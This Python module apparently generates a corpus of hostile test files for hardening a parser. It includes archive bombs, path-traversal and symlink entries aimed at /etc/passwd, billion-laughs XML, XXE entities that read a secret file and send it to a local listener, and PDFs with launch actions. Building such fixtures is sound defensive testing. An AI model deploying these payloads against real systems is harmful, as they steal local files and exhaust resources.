"""Files made to do harm, by name: what each tries is said beside it."""

import base64
import bz2
import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping

OFFICE = "http://schemas.openxmlformats.org"
WORD = f"{OFFICE}/wordprocessingml/2006/main"
KINDS = "application/vnd.openxmlformats-officedocument"
RELATED = "application/vnd.openxmlformats-package.relationships+xml"
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE x [<!ENTITY a0 "haha">{LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'

Hostile = Iterator[tuple[str, bytes]]


def hostile(secret: str, port: int, escape: str) -> dict[str, bytes]:
    """Return forty and more files. `secret` is the path of a file to steal, `port` a listener, `escape` a file name."""
    away = f"http://127.0.0.1:{port}/x"
    external = f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{secret}"><!ENTITY h SYSTEM "{away}">]>'
    remote = f'<!DOCTYPE x SYSTEM "{away}.dtd" [<!ENTITY % p SYSTEM "{away}"> %p;]>'
    made: dict[str, bytes] = {}
    for part in (
        _archives(escape),
        _documents(external, remote, secret, away),
        _pages(secret, away),
        _mails(escape),
        _pdfs(secret, away),
        _texts(secret),
    ):
        made.update(part)
    return made


def packed(files: Mapping[str, bytes | str], *, compressed: bool = True) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED)
    return body.getvalue()


def taped(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w") as archive:
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return body.getvalue()


def _entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def _archives(escape: str) -> Hostile:
    yield "bomb.zip", packed({"zeros.txt": b"\0" * 80_000_000})
    yield "ratio.zip", packed({"blanks.txt": b" " * 50_000_000})
    nested = packed({"a.txt": "bottom"})
    for level in range(30):
        nested = packed({f"{level}.zip": nested})
    yield "nested.zip", nested
    yield "many.zip", packed({f"{number}.txt": "x" for number in range(5000)})
    yield "dots.zip", packed({f"../../../../{escape}": "out", f"..\\..\\{escape}": "out", f"/{escape}": "out"})
    yield "same.zip", packed({"a.txt": "1", "./a.txt": "2", "b/../a.txt": "3"})
    lying = bytearray(packed({"a.txt": "x" * 1000}))
    lying[lying.rindex(b"PK\x01\x02") + 24 : lying.rindex(b"PK\x01\x02") + 28] = struct.pack("<I", 10)
    yield "lying.zip", bytes(lying)
    yield "overlapping.zip", _overlapping()
    yield "cut.zip", packed({"a.txt": "x" * 1000})[:-10]
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr(link, "/etc/passwd")
        archive.writestr("a.txt", "beside a link")
    yield "link.zip", body.getvalue()
    yield (
        "links.tar",
        taped(
            (_entry("s", tarfile.SYMTYPE, "/etc/passwd"), b""),
            (_entry("h", tarfile.LNKTYPE, "../../etc/passwd"), b""),
            (_entry("null", tarfile.CHRTYPE), b""),
            (_entry("fifo", tarfile.FIFOTYPE), b""),
            (_entry(f"../../{escape}"), b"out"),
            (_entry(f"s/{escape}"), b"out"),
        ),
    )
    yield "bomb.tar.gz", gzip.compress(taped((_entry("zeros"), b"\0" * 80_000_000)), 1)
    yield "bomb.tar.bz2", bz2.compress(taped((_entry("zeros"), b"\0" * 80_000_000)))
    yield "endless.tar", taped((_entry("a"), b"x" * 600))[:1024] * 20_000


def _overlapping() -> bytes:
    """Many entries of the directory point to the same data, so that a small file unpacks to much."""
    body = packed({"a.txt": b"a" * 1_000_000})
    start = body.index(b"PK\x01\x02")
    entry = body[start : body.index(b"PK\x05\x06")]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2000, 2000, len(entry) * 2000, start, 0)
    return body[:start] + entry * 2000 + end


def docx(document: str | bytes, more: Mapping[str, bytes | str] | None = None, relations: str = "") -> bytes:
    types = (
        f'<Types xmlns="{OFFICE}/package/2006/content-types"><Default Extension="rels" '
        f'ContentType="{RELATED}"/><Override PartName="/word/document.xml"'
        f' ContentType="{KINDS}.wordprocessingml.document.main+xml"/></Types>'
    )
    related = f'<Relationships xmlns="{OFFICE}/package/2006/relationships">'
    main = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument/2006/relationships/officeDocument" '
    files = {
        "[Content_Types].xml": types,
        "_rels/.rels": f'{related}{main}Target="word/document.xml"/></Relationships>',
        "word/document.xml": document,
        "word/_rels/document.xml.rels": f"{related}{relations}</Relationships>",
    }
    return packed({**files, **(more or {})})


def word(inner: str, prologue: str = "") -> str:
    return f'<?xml version="1.0"?>{prologue}<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'


def said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def xlsx(sheet: str, prologue: str = "", columns: str = "") -> bytes:
    main, relations = f"{OFFICE}/spreadsheetml/2006/main", f"{OFFICE}/officeDocument/2006/relationships"
    kind = f"{KINDS}.spreadsheetml"
    types = (
        f'<Types xmlns="{OFFICE}/package/2006/content-types"><Default Extension="rels" '
        f'ContentType="{RELATED}"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>'
    )

    def related(kind: str, target: str) -> str:
        one = f'<Relationship Id="r1" Type="{relations}/{kind}" Target="{target}"/>'
        return f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{one}</Relationships>'

    sheets = '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    book = f'<workbook xmlns="{main}" xmlns:r="{relations}">{sheets}</workbook>'
    rows = f'{prologue}<worksheet xmlns="{main}">{columns}<sheetData>{sheet}</sheetData></worksheet>'
    return packed(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": related("officeDocument", "xl/workbook.xml"),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": related("worksheet", "worksheets/sheet1.xml"),
            "xl/worksheets/sheet1.xml": rows,
        }
    )


def opened(kind: str, files: Mapping[str, bytes | str]) -> bytes:
    """Return a package that names its kind in its first member."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr("mimetype", kind)
        for name, content in files.items():
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return body.getvalue()


def _documents(external: str, remote: str, secret: str, away: str) -> Hostile:
    yield "laughs.docx", docx(word(said("&a9;"), BILLION))
    yield "quadratic.docx", docx(word(said("&a;" * 50_000), QUADRATIC))
    yield "external.docx", docx(word(said("seen &f; &h;"), external))
    yield "remote.docx", docx(word(said("seen"), remote))
    image = f"{OFFICE}/officeDocument/2006/relationships/image"
    related = f'<Relationship Id="r9" Type="{image}" Target="{away}" TargetMode="External"/>'
    yield "picture.docx", docx(word(said("a picture from elsewhere")), relations=related)
    stolen = f'<Relationship Id="r9" Type="{image}" Target="../../../../../..{secret}"/>'
    yield "stolen.docx", docx(word(said("a picture of a secret")), relations=stolen)
    yield "elements.docx", docx(word("<w:p/>" * 1_000_000 + said("end")))
    yield (
        "deep.docx",
        docx(word("<w:sdt><w:sdtContent>" * 100_000 + said("deep") + "</w:sdtContent></w:sdt>" * 100_000)),
    )
    yield "bomb.docx", docx(word(said(" " * 80_000_000)))
    yield "laughs.xlsx", xlsx('<row r="1"><c t="str"><v>&a9;</v></c></row>', BILLION)
    yield "external.xlsx", xlsx('<row r="1"><c t="str"><v>x &f;</v></c></row>', external)
    yield "far.xlsx", xlsx('<row r="1048576"><c r="XFD1048576" t="str"><v>far away</v></c></row>' * 50)
    yield "rows.xlsx", xlsx('<row><c t="str"><v></v></c></row>' * 1_000_000)
    hidden = '<cols><col min="1" max="999999" hidden="1"/></cols>'
    cells = '<row hidden="1"><c t="str"><v>x</v></c><c/></row>' * 300_000
    yield "hidden.xlsx", xlsx(cells, columns=hidden)
    based = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(50_000))
    runs = "".join(f'<w:p><w:r><w:rPr><w:rStyle w:val="s{n}"/></w:rPr><w:t>x</w:t></w:r></w:p>' for n in range(50_000))
    yield "styles.docx", docx(word(runs), {"word/styles.xml": f'<w:styles xmlns:w="{WORD}">{based}</w:styles>'})
    odt = "application/vnd.oasis.opendocument.text"
    yield (
        "external.odt",
        opened(odt, {"META-INF/manifest.xml": "<m/>", "content.xml": f"{external}<a><p>x &f; &h;</p></a>"}),
    )
    yield "laughs.odt", opened(odt, {"META-INF/manifest.xml": "<m/>", "content.xml": f"{BILLION}<a><p>x &a9;</p></a>"})
    container = '<container><rootfiles><rootfile full-path="../../../etc/passwd"/></rootfiles></container>'
    yield "outside.epub", opened("application/epub+zip", {"META-INF/container.xml": container})
    yield "slides.pptx", packed({"ppt/presentation.xml": f"{BILLION}<a>&a9;</a>", "[Content_Types].xml": "<Types/>"})


def _pages(secret: str, away: str) -> Hostile:
    yield "laughs.xml", f"{BILLION}<x>&a9;</x>".encode()
    yield "quadratic.xml", f"{QUADRATIC}<x>{'&a;' * 100_000}</x>".encode()
    yield (
        "external.xml",
        (f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{secret}"><!ENTITY h SYSTEM "{away}">]><x>&f;&h;</x>'.encode()),
    )
    yield "elements.xml", b"<x>" + b"<a/>" * 1_000_000 + b"end</x>"
    yield "deep.xml", b"<a>" * 300_000 + b"deep" + b"</a>" * 300_000
    yield "elements.html", b"<html><body>" + b"<b></b>" * 1_000_000 + b"<p>end of it</p></html>"
    yield "deep.html", b"<html>" + b"<div><table><tr><td>" * 20_000 + b"deep text"
    yield "spans.html", b"<table>" + b'<tr><td rowspan="9999" colspan="9999">x</td></tr>' * 500 + b"</table>"
    yield (
        "included.html",
        (
            f'<html><img src="{away}"><iframe src="file://{secret}"></iframe><link rel="stylesheet" href="{away}">'
            f'<script src="{away}"></script><object data="{away}"></object><p>a page that calls</p></html>'
        ).encode(),
    )
    rules = "".join(f"b.c{n}, .c{n} > b{{color:#fff}}" for n in range(30_000))
    yield "rules.html", f"<style>{rules}{{{{{{@@@(((</style>{'<b class=c1>x</b>' * 200_000}<p>a page</p>".encode()
    yield "classes.html", f"<style>.a{{color:red}}</style><p class='{'a ' * 500_000}'>many classes</p>".encode()
    yield "attributes.html", b"<p " + b"a=b " * 1_000_000 + b">many attributes here</p>"
    yield (
        "fancy.rst",
        (
            f".. include:: {secret}\n\n.. raw:: html\n   :file: {secret}\n\n"
            f".. csv-table::\n   :url: {away}\n\nText\n".encode()
        ),
    )
    yield "nested.rst", b"".join(b"  " * level + b"- x\n\n" for level in range(2000))


def _mails(escape: str) -> Hostile:
    head = "From: a@example.org\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
    name = f'Content-Disposition: attachment; filename="../../{escape}"'
    attached = f"Content-Type: application/octet-stream\r\n{name}\r\n\r\nout"
    yield (
        "escaping.eml",
        f"{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n{attached}\r\n--b--\r\n".encode(),
    )
    deep = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(3000))
    yield "deep.eml", f"{head}{deep}Content-Type: text/plain\r\n\r\ntext".encode()
    yield (
        "parts.eml",
        f"{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n".encode() + b"--b\r\n\r\nx\r\n" * 200_000 + b"--b--",
    )
    yield "headers.eml", head.encode() + b"To: " + b"a@b.example, " * 200_000 + b"\r\n\r\ntext"
    packed_up = base64.encodebytes(zlib.compress(b"\0" * 10_000_000)).decode()
    yield (
        "coded.eml",
        f"{head}Content-Type: text/plain; charset=zlib\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{packed_up}".encode(),
    )
    yield (
        "broken.msg",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "__properties_version1.0".encode("utf-16-le") + b"\xff" * 5000,
    )


def pdf(*objects: str) -> bytes:
    body = "%PDF-1.7\n" + "".join(f"{number} 0 obj\n{one}\nendobj\n" for number, one in enumerate(objects, 1))
    return f"{body}trailer << /Root 1 0 R >>\n%%EOF".encode("latin-1")


def _pdfs(secret: str, away: str) -> Hostile:
    yield "loop.pdf", pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>")
    yield "count.pdf", pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 2000000000 >>")
    calls = f"<< /S /URI /URI ({away}) >>"
    launch = f"<< /S /Launch /F ({secret}) >>"
    page = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 4 0 R >> >> >>"
    )
    itself = "/Resources << /XObject << /X 4 0 R >> >>"
    form = f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] {itself} /Length 5 >>\nstream\n/X Do\nendstream"
    yield (
        "recursive.pdf",
        pdf(
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction {calls} /AA << /WC {launch} >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            form,
        ),
    )
    bomb = zlib.compress(zlib.compress(b" " * 80_000_000))
    stream = (
        f"<< /Length {len(bomb)} /Filter [/FlateDecode /FlateDecode] >>\nstream\n{bomb.decode('latin-1')}\nendstream"
    )
    yield (
        "bomb.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            stream,
        ),
    )
    yield "objects.pdf", _drawn("BT /F 9 Tf 9 9 Td (a) Tj ET\n" * 1_000_000)
    yield "letters.pdf", _drawn(f"BT /F 9 Tf 9 9 Td ({'a' * 1_000_000}) Tj ET")
    colours = (
        f"{n % 100 / 100} {n // 100 % 100 / 100} {n // 10000 / 10} rg BT /F 9 Tf 9 9 Td (a) Tj ET\n"
        for n in range(100_000)
    )
    yield "colours.pdf", _drawn("".join(colours))
    yield "wide.pdf", _drawn("BT /F 9 Tf 9 9 Td (a) Tj ET", "[0 0 1e9 1]")
    yield "huge.pdf", _drawn("BT /F 9 Tf 9 9 Td (a) Tj ET", "[0 0 1e30 1e30]")
    yield "pictures.pdf", _drawn("BT 3 Tr /F 9 Tf 9 9 Td (a) Tj ET\n" * 100_000 + "/X Do\n" * 100_000)
    yield "nothing.pdf", b"%PDF-1.7\n" + b"1 0 obj << /A " * 200_000


def _drawn(content: str, box: str = "[0 0 99 99]") -> bytes:
    """Return a page with a font and a form that draws a form."""
    resources = "<< /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >>"
    form = f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources {resources} /Length 5 >>"
    return pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Contents 4 0 R /Resources {resources} >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"{form}\nstream\n/X Do\nendstream",
    )


def _texts(secret: str) -> Hostile:
    yield "polyglot.txt", b"%PDF-1.7\n<html><script>1</script>" + packed({"a.txt": "inside"})
    yield "image.docx", b"\x89PNG\r\n\x1a\n" + b"\0" * 1000
    yield "program.pdf", b"\x7fELF" + b"\0" * 1000
    yield "quotes.csv", b'"' * 1_000_000 + b"\n" + b"a," * 500_000
    yield "columns.csv", b"," * 5_000_000 + b"x"
    yield "veils.rtf", b"{\\rtf1 " + b"{\\v x\\v0 " * 300_000 + b"text" + b"}" * 300_000
    yield "groups.rtf", b"{\\rtf1 " + b"{" * 500_000 + b"text" + b"}" * 500_000
    yield "object.rtf", b"{\\rtf1 {\\object\\objdata " + b"01" * 1_000_000 + b"} a text }"
    yield "brackets.md", b"[" * 100_000 + b"](x) a text"
    yield "line.txt", b"word " * 1_000_000
